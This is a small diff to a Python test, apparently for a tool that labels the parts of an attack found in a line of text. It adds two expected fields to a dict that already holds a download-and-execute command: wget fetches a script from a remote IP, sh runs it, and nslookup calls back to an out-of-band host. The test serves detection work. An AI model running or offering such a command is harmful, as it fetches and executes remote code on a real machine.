@@ -38,6 +38,8 @@ def test_an_attack_in_an_ordinary_line_fills_every_column() -> None:
         "payload.command": "wget http://198.51.100.9/a -O /tmp/a;sh /tmp/a;nslookup x.oast.fun",
         "payload.callback": "x.oast.fun",
         "payload.dropped": "/tmp/a",
+        "payload.does": "deliver fetch run save",
+        "payload.aim": None,
     }
 
 
